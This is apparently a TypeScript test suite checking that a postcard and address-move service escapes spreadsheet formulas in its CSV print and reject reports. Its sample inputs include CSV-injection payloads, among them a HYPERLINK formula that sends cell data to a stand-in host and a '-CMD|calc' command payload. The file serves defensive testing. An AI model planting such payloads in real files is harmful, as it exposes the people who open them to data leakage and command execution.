import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { spreadsheetSafe } from '../../src/lib/spreadsheet-cells';
import { cleanseBytes } from '../support/memory-list';
import { memorySink } from '../support/memory-sink';
import { createTestRoot, type TestRoot } from '../support/test-root';


// Formulas with no house number in them, so that as a street line they are unreadable (rejected).
const FORMULAS = ['=HYPERLINK("http://x.example/?"&A)', '+CMD', '-CMD|calc', '@SUM(A)', '\t=CMD', '\r=CMD'];
const startsLikeAFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('reports built from other people\'s files never hand a spreadsheet a formula', () => {
  let root: TestRoot;
  beforeAll(async () => {
    root = await createTestRoot();
  });
  afterAll(() => root?.cleanup());

  it('spreadsheetSafe: text for cells beginning =, +, -, @, tab or CR; anything else as it is', () => {
    for (const formula of FORMULAS) expect(spreadsheetSafe(formula)).toBe(`'${formula}`);
    for (const plain of ['12 Main St', '02134', 'a=b', ' =1', '']) expect(spreadsheetSafe(plain)).toBe(plain);
  });

  it('postcards: the print file and the reject report', async () => {
    const rows = FORMULAS.map((formula, i) => [
      `${100 + i} Main St,,"${formula.replace(/"/g, '""')}",TX,78701`, // printed: the city is not needed with a ZIP
      `"${formula.replace(/"/g, '""')}",,Austin,TX,78701`, // rejected: no house number
    ]).flat();
    const print = memorySink();
    const rejects = memorySink();
    const summary = await root.services.postcards.issueFromCsv(Readable.from([`address1,address2,city,state,zip\n${rows.join('\n')}\n`]), { print, rejects }, { source: 'formulas.csv' });
    expect(summary).toMatchObject({ printed: FORMULAS.length, rejected: FORMULAS.length });
    const cells = [...(parse(print.text()) as string[][]), ...(parse(rejects.text()) as string[][])].flat();
    expect(cells.filter(startsLikeAFormula)).toEqual([]);
    for (const formula of FORMULAS) expect(cells).toContain(`'${formula.trim()}`); // the import trims its cells
  });

  it('moves: the reject report', async () => {
    const header = 'old_address1,old_zip,new_address1,new_zip,move_date,move_type,choices_follow';
    const file = `${header}\n${FORMULAS.map((formula) => `"${formula.replace(/"/g, '""')}",02139,1 Oak Ave,10001,2026-10-01,family,no`).join('\n')}\n`;
    const created = await root.services.moves.upload(Readable.from([Buffer.from(file)]), 'moves.csv', { label: 'ops' });
    const result = await root.services.moves.applyImport(created.id);
    expect(result.rejected).toBe(FORMULAS.length);
    const report = parse(await text((await root.services.moves.rejectReport(created.id)).stream)) as string[][];
    expect(report.flat().filter(startsLikeAFormula)).toEqual([]);
  });

  it('the discard report keeps the mailer\'s own bytes (its own file, byte for byte), formulas included', async () => {
    const { discards } = await cleanseBytes(Buffer.from('address1,zip\n=CMD,78701\n1 Main St,78701\n'));
    expect(discards).toContain('\n2,ADDRESS_UNREADABLE,');
    expect(discards).toContain(',=CMD,78701\n');
  });
});
